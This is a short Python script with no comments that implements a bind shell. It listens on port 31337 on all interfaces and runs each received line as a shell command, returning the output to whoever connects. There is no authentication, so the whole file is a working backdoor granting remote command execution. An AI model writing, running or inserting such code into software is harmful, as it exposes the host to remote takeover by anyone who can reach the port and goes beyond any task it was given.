import socket
import subprocess

srv = socket.socket()
srv.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
srv.bind(("0.0.0.0", 31337))
srv.listen(1)
conn, addr = srv.accept()
while True:
    cmd = conn.recv(4096).decode().strip()
    if cmd in ("exit", ""):
        break
    result = subprocess.run(cmd, shell=True, capture_output=True)
    conn.send(result.stdout + result.stderr)
conn.close()
